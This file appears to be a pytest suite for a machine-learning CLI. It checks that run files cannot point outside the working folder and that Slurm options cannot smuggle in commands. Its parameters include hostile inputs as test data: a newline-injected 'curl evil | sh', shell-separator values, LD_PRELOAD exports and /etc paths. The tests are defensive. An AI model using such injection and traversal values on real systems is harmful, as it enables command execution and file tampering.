"""A run file that may be somebody else's names no file or folder outside of where the command is typed."""

import json
import re
import shlex
from pathlib import Path

import pytest

from mlmd import cli, config
from mlmd.config import paths
from mlmd.stages import layout, submit
from tests.faults.refusals import refused, run, write
from tests.programs import CHECKOUT, tree

# What a run file has to have beside each key.
AROUND = {
    "fit": {"dataset": {"family": "configurations"}, "fit": {}},
    "rollout": {"rollout": {"guard": {}}},
    "cluster": {"cluster": {}},
}
LISTS = {"fit.files", "fit.test_files", "rollout.guard.committee", "cluster.options"}


@pytest.fixture
def work(tmp_path, monkeypatch):
    """A folder to type commands in, without the permission; beside it one that run files are to leave alone."""
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "file").write_text("mine")
    folder = tmp_path / "work"
    folder.mkdir()
    monkeypatch.chdir(folder)
    monkeypatch.delenv("MLMD_PATHS")
    return folder


def taken(monkeypatch, *words) -> None:
    monkeypatch.setattr("sys.argv", ["mlmd", *words])
    cli.main()


def write_key(folder: Path, key: str, text: str) -> None:
    """A run file that says `text` at a key."""
    *sections, last = key.split(".")
    values = json.loads(json.dumps(AROUND.get(key.partition(".")[0], {})))
    inner = values
    for section in sections:
        inner = inner[section]
    inner[last] = [text] if key in LISTS else text
    write(folder, **values)


@pytest.mark.parametrize("key", paths.KEYS)
@pytest.mark.parametrize("place", ["absolute", "../private/file", "runs/../../private/file", "file/file"])
def test_a_path_that_leads_out_is_refused_and_both_cures_work(work, capsys, monkeypatch, key, place):
    private = work.parent / "private" / "file"
    (work / "runs").mkdir()
    (work / "file").symlink_to("../private")
    text = str(private) if place == "absolute" else place
    text = f"--output={text}" if key == "cluster.options" else text
    write_key(work, key, text)
    before = tree(work.parent)
    assert run(monkeypatch, "status", "run.yaml") == 2
    told = capsys.readouterr().err
    assert told.startswith(f"mlmd: run.yaml: {key}: {text} leads out of the folder in which this is typed, {work}")
    assert told.count("\n") == 1
    if place == "file/file" and key != "cluster.options":
        assert f"{work}, to {private};" in told
    typed = shlex.split(re.search(r"\((--set .*)\) or set MLMD_PATHS=anywhere\n", told).group(1))
    taken(monkeypatch, "status", "run.yaml", *typed)
    monkeypatch.setenv("MLMD_PATHS", "anywhere")
    taken(monkeypatch, "status", "run.yaml")
    assert tree(work.parent) == before


@pytest.mark.parametrize("key", paths.KEYS)
@pytest.mark.parametrize("place", ["inside/file", "./inside/../inside/file", "link", "absolute"])
def test_a_path_that_stays_is_taken(work, monkeypatch, key, place):
    (work / "inside").mkdir()
    (work / "inside" / "file").touch()
    (work / "link").symlink_to(work / "inside" / "file")
    text = str(work / "inside" / "file") if place == "absolute" else place
    write_key(work, key, f"--output={text}" if key == "cluster.options" else text)
    taken(monkeypatch, "status", "run.yaml")


@pytest.mark.parametrize("key", ["out", "data"])
def test_a_link_inside_a_folder_that_leads_out_is_refused(work, capsys, monkeypatch, key):
    """As in an archive with a run file and the beginnings of its output."""
    (work / "ours").mkdir()
    (work / "ours" / "newton1d.zarr").symlink_to("../../private")
    write_key(work, key, "ours")
    assert run(monkeypatch, "generate", "run.yaml") == 2
    assert "ours holds the link newton1d.zarr, which leads out" in capsys.readouterr().err
    assert [path.name for path in (work.parent / "private").iterdir()] == ["file"]


@pytest.mark.parametrize("command", ["generate", "train", "search", "rollout", "act", "report", "status", "verify"])
def test_every_command_refuses(work, capsys, monkeypatch, command):
    write(work, out="../private")
    assert "out: ../private leads out" in refused(capsys, monkeypatch, work, command, "run.yaml")


def test_a_job_is_refused_before_it_is_submitted(work, capsys, monkeypatch):
    write(work, data="../private")
    for more in ([], ["--dry-run"]):
        told = refused(capsys, monkeypatch, work, "submit", "run.yaml", "--scheduler", "local", *more)
        assert "data: ../private leads out" in told


def test_a_key_that_is_typed_frees_no_other(work, capsys, monkeypatch):
    write(work, out="../private", data="../private")
    told = refused(capsys, monkeypatch, work, "status", "run.yaml", "--set", "out=../private", "--set", "seed=1")
    assert told.startswith("mlmd: run.yaml: data: ../private leads out")
    # A file cannot give itself the permission, and no other word is one.
    monkeypatch.setenv("MLMD_PATHS", "everywhere")
    assert "leads out" in refused(capsys, monkeypatch, work, "status", "run.yaml", "--set", "out=x")


@pytest.mark.parametrize(
    "option",
    [
        "--output=/etc/x",
        "-o/etc/x",
        "-o /etc/x",
        "--comment=a --error ../x",
        '--chdir="/etc"',
        "--ou\\tput='/'etc/x",
        "--export=ALL,LD_PRELOAD=x.so",
        "--comment=a --export=LD_PRELOAD=x.so",
        '-"-exp"ort=LD_PRELOAD=x.so',
        "--wrap=id",
    ],
)
def test_options_of_sbatch_that_reach_further_are_refused(work, capsys, monkeypatch, option):
    write(work, cluster={"kind": "slurm", "options": [option]})
    told = refused(capsys, monkeypatch, work, "generate", "run.yaml")
    assert re.search(r"cluster\.options: .*(leads out of the folder|decides what jobs run)", told), told


def test_other_options_of_sbatch_are_taken(work, monkeypatch):
    options = ["--account=a b", "-p long", "--gres=gpu:a100:2", "--exclude=n[1-3]", "--exclusive", "--comment=1/2"]
    write(work, cluster={"kind": "slurm", "options": options})
    taken(monkeypatch, "status", "run.yaml")


@pytest.mark.parametrize(
    ("section", "told"),
    [
        ({"options": ["--account=a\ncurl evil | sh"]}, "control character"),
        ({"options": ["script.sh"]}, "cluster.options.0"),
        ({"interface": "lo; touch x"}, "cluster.interface"),
        ({"interface": "lo\ntouch x"}, "control character"),
        ({"memory": "1GB; touch x"}, "cluster.memory"),
    ],
)
def test_what_would_be_more_than_a_word_of_a_job_script_is_refused(work, capsys, monkeypatch, section, told):
    write(work, cluster={"kind": "slurm", **section})
    assert told in refused(capsys, monkeypatch, work, "generate", "run.yaml")


@pytest.mark.parametrize("text", ["x" * 5000, "loop/x"])
def test_a_path_that_is_none_is_refused_in_one_line(work, capsys, monkeypatch, text):
    (work / "file").symlink_to("loop")
    (work / "loop").symlink_to("file")
    write(work, out=text)
    assert run(monkeypatch, "status", "run.yaml") == 2
    told = capsys.readouterr().err
    assert told.count("\n") == 1
    assert "out: " in told


@pytest.mark.parametrize("place", ["campaign.yaml", "lstm.yaml"])
def test_a_campaign_is_refused_whole(work, capsys, monkeypatch, place):
    folder = work / "configs"
    folder.mkdir()
    for path in (CHECKOUT / "jobs/configs/rnn_operators/small").glob("*.yaml"):
        text = path.read_text()
        (folder / path.name).write_text(text.replace("out: runs/", "out: ../private/") if path.name == place else text)
    words = ["reproduce", "rnn-operators", "--configs", "configs"]
    for more in ([], ["--submit", "--scheduler", "local", "--dry-run"]):
        assert run(monkeypatch, *words, *more) == 2
        told = capsys.readouterr().err
        assert told.startswith(f"mlmd: configs/{place}: out: ../private/"), told
        # It takes no overrides.
        assert told.endswith("if that is meant, set MLMD_PATHS=anywhere\n")
    assert [path.name for path in (work.parent / "private").iterdir()] == ["file"]


def test_what_is_kept_beside_the_output_goes_on_from_there(work, tmp_path, capsys, monkeypatch):
    """Of a run that was put on another file system by --set."""
    scratch = tmp_path / "scratch disk"
    ours = config.load(write(work), [f"out={scratch / 'run'}"])
    layout.write_run_file(ours)
    taken(monkeypatch, "status", str(scratch / "run" / "run.yaml"))
    # Only the folder in which it lies, and only as its out.
    for change in ({"data": str(scratch)}, {"data": str(scratch / "run")}, {"out": str(scratch / "run" / "deeper")}):
        layout.write_run_file(ours)
        kept = scratch / "run" / "run.yaml"
        kept.write_text(config.dump(ours.model_copy(update=change)))
        assert run(monkeypatch, "status", str(kept)) == 2
        assert f"{next(iter(change))}: {next(iter(change.values()))} leads out" in capsys.readouterr().err
        allowed = paths.permission(kept, config.load(kept).settings(), work)
        assert allowed == "MLMD_PATHS=anywhere "
    assert paths.permission(work / "run.yaml", config.load(work / "run.yaml").settings(), work) == ""


def test_a_job_may_name_what_was_allowed_when_it_was_submitted(work):
    """Its run file has the folders in full, and it runs in the checkout."""
    settled = submit.settled(config.load(write(work, data="shared")))
    spec = submit.spec_of(settled, "generate", ())
    assert paths.permission(Path(spec.environment["RUN"]), settled.settings(), CHECKOUT)
    assert spec.environment["MLMD_PATHS"] == "anywhere"


def test_the_keys_that_name_files_and_folders_are_these():
    """A new key with a path has to be put among them."""
    meanings = {key: meaning for key, _, meaning in config.documented_keys()}
    speaking = {key for key, meaning in meanings.items() if re.search(r"\b(files?|folders?)\b", meaning)}
    # The name of an array in files.
    assert speaking - {"fit.test_energy"} == set(paths.KEYS) - {"cluster.options"}
    assert "cluster.options" in meanings
